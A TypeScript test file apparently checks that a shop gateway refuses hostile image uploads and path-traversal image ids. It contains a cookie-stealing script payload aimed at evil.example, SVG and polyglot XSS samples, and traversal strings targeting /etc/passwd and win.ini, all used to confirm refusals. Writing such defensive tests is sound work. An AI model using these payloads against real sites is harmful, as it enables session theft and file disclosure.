import http from 'node:http'
import sharp from 'sharp'
import { beforeAll, describe, expect, it } from 'vitest'
import { conformanceProblem } from './openapi-conformance'
import { signUpCustomer, useTestShop } from './support'

/**
 * Hostile uploads and image ids through the gateway, with Node fetch so every refusal is read as a client
 * reads it: files that lie about their type, SVG with script, polyglots, oversized files, path traversal.
 * Every exchange is then checked against the OpenAPI document.
 */
const shop = useTestShop({ record: true })

beforeAll(async () => {
  const category = await fetch(`${shop.gateway.url}/category`, {
    method: 'POST',
    headers: { authorization: `bearer ${shop.admin}`, 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'Vitamins' }),
  })
  expect(category.status).toBe(201)
})

const picture = (format: 'png' | 'jpeg' | 'gif' | 'webp') =>
  sharp({ create: { width: 40, height: 30, channels: 3, background: '#2a8' } })
    .toFormat(format)
    .toBuffer()

type Upload = { bytes: Buffer; name: string; type: string }
const form = (name: string, upload?: Upload) => {
  const body = new FormData()
  for (const [k, v] of Object.entries({
    name,
    category: 'Vitamins',
    price: '99',
    description: 'Bottle',
    stock: '5',
  }))
    body.set(k, v)
  if (upload) body.set('image', new Blob([new Uint8Array(upload.bytes)], { type: upload.type }), upload.name)
  return body
}
const send = (method: 'POST' | 'PUT', path: string, body: FormData, token = shop.admin) =>
  fetch(`${shop.gateway.url}${path}`, { method, headers: { authorization: `bearer ${token}` }, body })

/** The refusal as a client reads it: status and the `{ message, code }` body. */
async function refusal(res: Response) {
  return { status: res.status, body: (await res.json()) as { message: string; code: string } }
}

const script = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
const notAnImage = 'The image must be a PNG, JPEG, GIF or WebP file'

describe('product image uploads are judged by their bytes', () => {
  it('accepts a real PNG and serves it with its real type and no-sniff', async () => {
    const res = await send(
      'POST',
      '/product',
      form('Vitamin C', { bytes: await picture('png'), name: 'c.png', type: 'image/png' }),
    )
    expect(res.status).toBe(201)
    const { image, thumbnail } = (await res.json()) as { image: string; thumbnail: string }
    for (const [url, type] of [
      [image, 'image/png'],
      [thumbnail, 'image/webp'],
    ] as const) {
      const served = await fetch(`${shop.gateway.url}${new URL(url).pathname}`)
      expect(served.status).toBe(200)
      expect(served.headers.get('content-type')).toBe(type)
      expect(served.headers.get('x-content-type-options')).toBe('nosniff')
      await served.arrayBuffer()
    }
  })

  it.each<[string, Upload, string]>([
    [
      'text that calls itself a PNG',
      { bytes: Buffer.from('just some text'), name: 'photo.png', type: 'image/png' },
      notAnImage,
    ],
    [
      'an SVG with a script, declared as SVG',
      {
        bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
        name: 'x.svg',
        type: 'image/svg+xml',
      },
      notAnImage,
    ],
    [
      'an SVG with a script, named and declared as a PNG',
      {
        bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
        name: 'x.png',
        type: 'image/png',
      },
      notAnImage,
    ],
    [
      'an HTML page declared as a JPEG',
      { bytes: Buffer.from(`<!doctype html>${script}`), name: 'a.jpg', type: 'image/jpeg' },
      notAnImage,
    ],
    [
      'a GIF/JavaScript polyglot header that is no picture',
      {
        bytes: Buffer.from('GIF89a/*\u0000\u0000*/=1;alert(document.domain);'),
        name: 'a.gif',
        type: 'image/gif',
      },
      'The file looks like GIF but could not be read as an image',
    ],
  ])('refuses %s with a readable 415', async (_what, upload, message) => {
    expect(await refusal(await send('POST', '/product', form('Liar', upload)))).toEqual({
      status: 415,
      body: { message, code: 'unsupported_media_type' },
    })
  })

  it.each(['png', 'jpeg', 'gif', 'webp'] as const)(
    'refuses a real %s with an HTML page appended (polyglot) with 415',
    async (format) => {
      const bytes = Buffer.concat([await picture(format), Buffer.from(`<html>${script}</html>`)])
      expect(
        await refusal(
          await send(
            'POST',
            '/product',
            form('Polyglot', { bytes, name: `p.${format}`, type: `image/${format}` }),
          ),
        ),
      ).toEqual({
        status: 415,
        body: {
          message: `The file has data after the end of the ${format.toUpperCase()} image`,
          code: 'unsupported_media_type',
        },
      })
    },
  )

  it('keeps a product’s picture when a replacement is refused', async () => {
    const made = await send(
      'POST',
      '/product',
      form('Zinc', { bytes: await picture('jpeg'), name: 'z.jpg', type: 'image/jpeg' }),
    )
    const product = (await made.json()) as { _id: string; image: string }
    const bytes = Buffer.concat([await picture('png'), Buffer.from(script)])
    const res = await send(
      'PUT',
      `/product?productId=${product._id}`,
      form('Zinc', { bytes, name: 'z.png', type: 'image/png' }),
    )
    expect(res.status).toBe(415)
    await res.arrayBuffer()
    const after = (await (
      await fetch(`${shop.gateway.url}/product/productById?productId=${product._id}`)
    ).json()) as { image: string }
    expect(after.image).toBe(product.image)
  })

  it('refuses an 11 MB file with a readable 413', async () => {
    const bytes = Buffer.concat([await picture('png'), Buffer.alloc(11 * 1024 * 1024)])
    const { status, body } = await refusal(
      await send('POST', '/product', form('Huge', { bytes, name: 'h.png', type: 'image/png' })),
    )
    expect(status).toBe(413)
    expect(body.message).toMatch(/10 MB/)
  })

  it('lets no customer upload', async () => {
    const customer = (await signUpCustomer(shop.gateway.url)).token
    const res = await send(
      'POST',
      '/product',
      form('Sneaky', { bytes: await picture('png'), name: 's.png', type: 'image/png' }),
      customer,
    )
    expect(res.status).toBe(403)
    await res.arrayBuffer()
  })
})

/** A GET sent as written: fetch would resolve `..` and `%2e%2e` segments before they left the client. */
function rawGet(path: string): Promise<{ status: number; contentType: string; body: string }> {
  const { hostname, port } = new URL(shop.gateway.url)
  return new Promise((resolve, reject) => {
    http
      .get({ hostname, port, path }, (res) => {
        const chunks: Buffer[] = []
        res.on('data', (c: Buffer) => chunks.push(c))
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            contentType: String(res.headers['content-type'] ?? ''),
            body: Buffer.concat(chunks).toString('utf8'),
          }),
        )
      })
      .on('error', reject)
  })
}

describe('image ids cannot reach outside the image store', () => {
  it.each([
    '..%2F..%2F..%2Fetc%2Fpasswd',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%252F..%252Fetc%252Fpasswd',
    '....%2F%2F....%2F%2Fetc%2Fpasswd',
    '%2e%2e',
    '../../../etc/passwd',
    '..',
    '..%5C..%5Cwindows%5Cwin.ini',
    `${'a'.repeat(32)}%00.png`,
    'ABCDEF0123456789ABCDEF0123456789',
  ])('answers /product/image/%s with a JSON 400 or 404', async (id) => {
    for (const path of [`/product/image/${id}`, `/product/image/${id}/card`]) {
      const res = await rawGet(path)
      expect([400, 404]).toContain(res.status)
      expect(res.contentType).toMatch(/^application\/json/)
      expect(JSON.parse(res.body)).toMatchObject({ message: expect.any(String) })
      expect(res.body).not.toMatch(/root:|\[fonts\]/)
    }
  })

  it('answers a well-formed id that names no image with 404', async () => {
    const res = await fetch(`${shop.gateway.url}/product/image/${'0'.repeat(32)}`)
    expect(await refusal(res)).toEqual({
      status: 404,
      body: { message: 'Image not found', code: 'not_found' },
    })
  })
})

describe('the OpenAPI document', () => {
  it('describes every answer given above', () => {
    expect(shop.exchanges.length).toBeGreaterThan(20)
    expect(shop.exchanges.map(conformanceProblem).filter(Boolean)).toEqual([])
  })
})
